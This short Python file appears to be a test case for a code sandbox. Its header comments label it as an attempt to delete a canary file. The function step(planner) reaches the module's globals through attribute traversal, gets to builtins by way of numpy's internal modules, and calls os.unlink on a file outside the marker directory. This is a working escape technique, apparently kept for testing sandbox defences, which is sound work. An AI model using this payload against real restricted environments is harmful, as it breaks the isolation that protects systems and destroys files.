# attempts: os.unlink of the canary in def step(planner) form; np taken from the planner module's globals, then the bltns route
# effect: file
# needs: planner
def step(planner):
    g = np.ma.core.operator.attrgetter('__class__.__init__.__globals__')(planner)
    B = g['np'].random.bit_generator.re.enum.bltns
    B.getattr(B, '__import__')('os').unlink('@@MARKER_DIR@@/../canary.txt')
